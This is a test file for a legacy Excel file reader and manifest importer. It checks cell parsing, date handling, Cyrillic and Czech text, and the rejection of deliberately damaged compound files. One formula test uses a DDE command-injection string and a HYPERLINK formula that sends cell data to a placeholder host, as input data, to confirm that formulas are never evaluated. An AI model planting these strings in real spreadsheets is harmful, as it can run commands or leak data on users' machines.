// Legacy Excel (BIFF8 in an OLE2 compound file): every cell record, dates, shared strings split across
// CONTINUE records, sheet choice, formulas kept as text, the container's defences, and the import.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { importFile } from '../../electron/core/ingest/import-file.ts';
import { previewTable } from '../../electron/core/ingest/tabular/preview.ts';
import { readXls } from '../../electron/core/ingest/tabular/xls-reader.ts';
import { workspaceStats } from '../../electron/core/records/stats.ts';
import { cell, cfb, rec, workbookStream, xls, type SstString, type WorkbookSpec } from './helpers/xls-writer.ts';
import { PASSPHRASE, tempDir, testCore, type TestCore } from './helpers/workspace.ts';

let dir: ReturnType<typeof tempDir>;
beforeEach(() => {
  dir = tempDir();
});
afterEach(() => dir.remove());

let written = 0;
function file(bytes: Buffer): string {
  const path = join(dir.path, `book${written++}.xls`);
  writeFileSync(path, bytes);
  return path;
}

function read(bytes: Buffer): { line: number; cells: string[] }[] {
  const rows: { line: number; cells: string[] }[] = [];
  readXls(file(bytes), (row) => rows.push(row));
  return rows;
}

const refusal = (bytes: Buffer) => {
  try {
    read(bytes);
  } catch (err) {
    return (err as { importCode?: string }).importCode ?? String(err);
  }
  return 'read';
};

const oneSheet = (cells: Buffer[], spec: Partial<WorkbookSpec> = {}): WorkbookSpec => ({ sheets: [{ name: 'Manifest', cells }], ...spec });

/** Record types in a Workbook stream, in order. */
function recordTypes(stream: Buffer): number[] {
  const types: number[] = [];
  for (let at = 0; at + 4 <= stream.length; at += 4 + stream.readUInt16LE(at + 2)) types.push(stream.readUInt16LE(at));
  return types;
}

describe('XLS reader', () => {
  it('reads every cell record of the first worksheet, skipping empty rows', () => {
    const rows = read(
      xls(
        oneSheet(
          [
            cell.sst(0, 0, 0),
            cell.label(0, 1, 'Label text'),
            cell.number(0, 2, 1.5),
            cell.rk(0, 3, 42),
            cell.rk(0, 4, 12.34),
            cell.rk(0, 5, 2 ** 40),
            cell.rk(0, 6, -3),
            cell.mulrk(1, 1, [1, 2.5, -7]),
            cell.bool(1, 4, true),
            cell.bool(1, 5, false),
            cell.error(1, 6, 0x2a),
            cell.error(1, 7, 0x07),
            cell.formula(2, 0, 10800.25),
            cell.formula(2, 1, 'Sarajevo'),
            cell.formula(2, 2, true),
            cell.formula(2, 3, { error: 0x17 }),
            cell.formula(2, 4, ''),
            cell.formula(2, 5, 7),
            cell.blank(3, 0),
            cell.mulblank(3, 1, 5),
            cell.number(5, 2, 1e21),
            cell.number(5, 3, 0.1 + 0.2),
          ],
          { sst: ['Consignee'] },
        ),
      ),
    );
    expect(rows).toEqual([
      { line: 1, cells: ['Consignee', 'Label text', '1.5', '42', '12.34', '1099511627776', '-3'] },
      { line: 2, cells: ['', '1', '2.5', '-7', 'TRUE', 'FALSE', '#N/A', '#DIV/0!'] },
      { line: 3, cells: ['10800.25', 'Sarajevo', 'TRUE', '#REF!', '', '7'] },
      { line: 6, cells: ['', '', '1e+21', '0.30000000000000004'] },
    ]);
  });

  it('writes numbers in a date format as dates, in the 1900 and the 1904 system', () => {
    const spec = (date1904: boolean, serial: number): WorkbookSpec =>
      oneSheet(
        [
          cell.number(0, 0, serial, 1),
          cell.rk(0, 1, serial, 2),
          cell.formula(0, 2, serial, 5),
          cell.mulrk(0, 3, [serial, serial], 1),
          cell.number(1, 0, 1200.5, 3),
          cell.number(1, 1, 1200.5, 4),
          cell.number(1, 2, serial, 0),
          cell.number(1, 3, serial + 0.75, 6),
        ],
        { date1904, formats: { 164: 'dd\\.mm\\.yyyy', 165: '#,##0.00 "kg dm"', 166: '[Red]0.00;[Blue]-0.00' }, xfs: [0, 14, 164, 165, 166, 47, 22] },
      );
    const expected = [
      { line: 1, cells: ['2026-11-18', '2026-11-18', '2026-11-18', '2026-11-18', '2026-11-18'] },
      { line: 2, cells: ['1200.5', '1200.5', expect.any(String), '2026-11-18'] },
    ];
    const rows1900 = read(xls(spec(false, 46344)));
    expect(rows1900).toEqual(expected);
    expect(rows1900[1]!.cells[2]).toBe('46344');
    // The 1904 system counts from 1904-01-01: the same day is 1462 less.
    const rows1904 = read(xls(spec(true, 44882)));
    expect(rows1904).toEqual(expected);
    expect(rows1904[1]!.cells[2]).toBe('44882');
  });

  const splitStrings: SstString[] = [
    'A'.repeat(30) + 'Ж'.repeat(30),
    'Žluťoučký kůň úpěl ďábelské ódy',
    'Привет из Подгорицы, ООО «Балкан Транс»',
    { text: 'Rich text with phonetic data', runs: 3, ext: 25 },
    'short',
    { text: 'Černá Hora – Podgorica', runs: 1 },
    '',
    'Čeliković & Sinovi d.o.o. Sarajevo',
  ];

  it.each([
    ['Latin-1 where it can, UTF-16 where it must', false],
    ['UTF-16 throughout', true],
  ])('reads shared strings split across CONTINUE records (%s)', (_name, utf16) => {
    const spec = oneSheet(
      splitStrings.map((_, i) => cell.sst(i, 0, i)),
      { sst: splitStrings, maxRecord: 40, utf16 },
    );
    expect(recordTypes(workbookStream(spec)).filter((t) => t === 0x003c).length).toBeGreaterThan(10);
    const texts = splitStrings.map((s) => (typeof s === 'string' ? s : s.text));
    expect(read(xls(spec))).toEqual(texts.map((t, i) => ({ line: i + 1, cells: [t] })).filter((r) => r.cells[0] !== ''));
  });

  it('reads Cyrillic and Czech text in shared strings, labels and formula results', () => {
    const rows = read(
      xls(
        oneSheet([cell.sst(0, 0, 0), cell.sst(0, 1, 1), cell.label(1, 0, 'Прималац: Јован Петровић'), cell.formula(1, 1, 'Příliš žluťoučký kůň')], {
          sst: ['Бруто тежина', 'Přepravce'],
        }),
      ),
    );
    expect(rows).toEqual([
      { line: 1, cells: ['Бруто тежина', 'Přepravce'] },
      { line: 2, cells: ['Прималац: Јован Петровић', 'Příliš žluťoučký kůň'] },
    ]);
  });

  it('reads the first worksheet, past a chart sheet, not the second', () => {
    const rows = read(
      xls({
        sheets: [
          { name: 'Chart1', chart: true },
          { name: 'Manifest', cells: [cell.label(0, 0, 'first worksheet')] },
          { name: 'Other', cells: [cell.label(0, 0, 'second worksheet')] },
        ],
      }),
    );
    expect(rows).toEqual([{ line: 1, cells: ['first worksheet'] }]);
  });

  it('keeps formula text as text and never evaluates a formula', () => {
    const hyperlink = '=HYPERLINK("http://example.test/?q="&A1,"Open")';
    const rows = read(
      xls(
        oneSheet([cell.sst(0, 0, 0), cell.label(0, 1, '+387 61 123 456'), cell.label(0, 2, '@SUM(A1:A9)'), cell.formula(0, 3, "=cmd|' /C calc'!A0")], {
          sst: [hyperlink],
        }),
      ),
    );
    expect(rows).toEqual([{ line: 1, cells: [hyperlink, '+387 61 123 456', '@SUM(A1:A9)', "=cmd|' /C calc'!A0"] }]);
  });

  it('reads a workbook stream kept in the mini stream, and an allocation table listed in DIFAT sectors', () => {
    const spec = oneSheet([cell.label(0, 0, 'small'), cell.number(0, 1, 3)]);
    expect(workbookStream(spec).length).toBeLessThan(4096);
    expect(read(xls(spec, { pad: false }))).toEqual([{ line: 1, cells: ['small', '3'] }]);
    const big = xls(spec, { minFatSectors: 240 });
    expect(big.readUInt32LE(72)).toBe(2);
    expect(read(big)).toEqual([{ line: 1, cells: ['small', '3'] }]);
  });

  // Where things are in the writer's files: one stream (directory entry 1), FAT sectors listed in the header.
  const copy = (bytes: Buffer, change: (b: Buffer) => void) => {
    const b = Buffer.from(bytes);
    change(b);
    return b;
  };
  const fatSlot = (b: Buffer, sid: number) => (b.readUInt32LE(76 + 4 * Math.floor(sid / 128)) + 1) * 512 + (sid % 128) * 4;
  const streamEntry = (b: Buffer) => (b.readUInt32LE(48) + 1) * 512 + 128;
  const good = xls(oneSheet([cell.label(0, 0, 'x')]));
  const start = good.readUInt32LE(streamEntry(good) + 116);
  const manyFat = xls(oneSheet([cell.label(0, 0, 'x')]), { minFatSectors: 240 });
  const firstDifat = manyFat.readUInt32LE(68);
  const noEof = workbookStream(oneSheet([cell.label(0, 0, 'x')])).subarray(0, -4);

  it.each([
    ['not a compound file', Buffer.from('Bill of lading;Consignee\nMEDU1;Drina\n'), 'IMPORT_NOT_XLS'],
    ['an unsupported header (mini sectors of 128 bytes)', copy(good, (b) => b.writeUInt16LE(7, 32)), 'IMPORT_NOT_XLS'],
    ['a file cut inside its header', good.subarray(0, 300), 'XLS_DAMAGED'],
    ['a truncated file', good.subarray(0, 2048), 'XLS_DAMAGED'],
    ['a loop in a sector chain', copy(good, (b) => b.writeUInt32LE(start + 1, fatSlot(b, start + 2))), 'XLS_DAMAGED'],
    ['a sector number out of range', copy(good, (b) => b.writeUInt32LE(0x00ffffff, fatSlot(b, start + 1))), 'XLS_DAMAGED'],
    ['a stream longer than its chain', copy(good, (b) => b.writeUInt32LE(100_000, streamEntry(b) + 120)), 'XLS_DAMAGED'],
    ['a loop in the DIFAT chain', copy(manyFat, (b) => b.writeUInt32LE(firstDifat, (firstDifat + 1) * 512 + 508)), 'XLS_DAMAGED'],
    ['a workbook stream without its EOF', cfb([{ name: 'Workbook', data: Buffer.concat([noEof, Buffer.alloc(4096)]) }]), 'XLS_DAMAGED'],
    ['an encrypted workbook (FILEPASS)', xls(oneSheet([cell.label(0, 0, 'x')], { encrypted: true })), 'XLS_ENCRYPTED'],
    ['a compound file with no Workbook stream', cfb([{ name: 'WordDocument', data: Buffer.alloc(5000, 1) }]), 'IMPORT_NOT_XLS'],
    ['an Excel 5.0/95 workbook (Book stream)', cfb([{ name: 'Book', data: Buffer.alloc(5000) }]), 'XLS_UNSUPPORTED_VERSION'],
    ['a BIFF5 workbook stream', xls(oneSheet([cell.label(0, 0, 'x')], { version: 0x0500 })), 'XLS_UNSUPPORTED_VERSION'],
    ['a cell beyond column 16,384', xls(oneSheet([cell.label(0, 20_000, 'x')])), 'XLS_LIMIT_EXCEEDED'],
    ['a shared string table bigger than its stream', xls(oneSheet([cell.sst(0, 0, 0)], { sst: ['x'], sstUnique: 50_000_000 })), 'XLS_LIMIT_EXCEEDED'],
    ['a workbook stream over 256 MB', copy(good, (b) => b.writeUInt32LE(300 * 1024 ** 2, streamEntry(b) + 120)), 'XLS_LIMIT_EXCEEDED'],
    [
      'a record that runs past its stream',
      cfb([{ name: 'Workbook', data: Buffer.concat([rec(0x0809, [0, 6, 5, 0]), Buffer.from([0x85, 0, 0xff, 0x7f]), Buffer.alloc(4096)]) }]),
      'XLS_DAMAGED',
    ],
  ])('refuses %s', (_name, bytes, code) => {
    expect(refusal(bytes)).toBe(code);
  });

  it('the writer’s damage is where the tests think it is', () => {
    expect(refusal(good)).toBe('read');
    expect(refusal(manyFat)).toBe('read');
    expect(manyFat.readUInt32LE((firstDifat + 1) * 512 + 508)).toBe(firstDifat + 1);
  });
});

describe('XLS import', () => {
  let t: TestCore;
  beforeEach(async () => {
    t = testCore();
    await t.core.workspace.create({ dir: join(t.root, 'ws'), name: 'xls', passphrase: PASSPHRASE });
  });
  afterEach(() => t.dispose());
  const db = () => t.core.workspace.db();

  const manifest = xls({
    sheets: [
      { name: 'Chart', chart: true },
      {
        name: 'Manifest',
        cells: [
          ...[0, 1, 2, 3, 4].map((i) => cell.sst(0, i, i)),
          cell.sst(1, 0, 5),
          cell.sst(1, 1, 6),
          cell.number(1, 2, 21600.5),
          cell.number(1, 3, 46344, 1),
          cell.rk(1, 4, 12),
          cell.sst(2, 0, 7),
          cell.label(2, 1, 'Čeliković & Sinovi d.o.o.'),
          cell.formula(2, 2, 10800.25),
          cell.rk(2, 3, 46345, 2),
          cell.blank(2, 4),
          cell.mulblank(3, 0, 5),
        ],
      },
    ],
    sst: ['Bill of lading', 'Consignee', 'Gross weight', 'Arrival date', 'Packages', 'MEDU771', 'ООО Балкан Транс', 'MEDU772'],
    formats: { 164: 'dd\\.mm\\.yyyy' },
    xfs: [0, 14, 164],
  });

  it('imports a manifest through the table mapping: names, numbers and dates', () => {
    const path = join(t.root, 'manifest.xls');
    writeFileSync(path, manifest);
    const o = importFile(db(), path, { actor: 'test' });
    expect(o.report).toMatchObject({ format: 'xls', accepted: 2, warnings: [], errors: [] });
    expect(db().prepare("SELECT gross_weight_kg, arrival_date, packages FROM shipment WHERE doc_number = 'MEDU771'").get()).toEqual({
      gross_weight_kg: 21600.5,
      arrival_date: '2026-11-18',
      packages: 12,
    });
    expect(db().prepare("SELECT gross_weight_kg, arrival_date FROM shipment WHERE doc_number = 'MEDU772'").get()).toEqual({
      gross_weight_kg: 10800.25,
      arrival_date: '2026-11-19',
    });
    expect((db().prepare('SELECT name FROM party ORDER BY name').all() as { name: string }[]).map((p) => p.name)).toEqual([
      'Čeliković & Sinovi d.o.o.',
      'ООО Балкан Транс',
    ]);
  });

  it('previews the header and sample rows for the mapping screen', () => {
    const path = join(t.root, 'manifest.xls');
    writeFileSync(path, manifest);
    const preview = previewTable(db(), path, 'xls');
    expect(preview).toMatchObject({ format: 'xls', headers: ['Bill of lading', 'Consignee', 'Gross weight', 'Arrival date', 'Packages'] });
    expect(preview.sample[0]).toEqual(['MEDU771', 'ООО Балкан Транс', '21600.5', '2026-11-18', '12']);
  });

  it('refuses a damaged workbook, writing nothing', () => {
    const path = join(t.root, 'damaged.xls');
    writeFileSync(path, manifest.subarray(0, 2048));
    const o = importFile(db(), path, { actor: 'test' });
    expect(o.refused).toBe(true);
    expect(o.report).toMatchObject({ format: 'xls', accepted: 0 });
    expect(o.report.errors[0]!.code).toBe('XLS_DAMAGED');
    expect(workspaceStats(db()).shipments).toBe(0);
  });
});
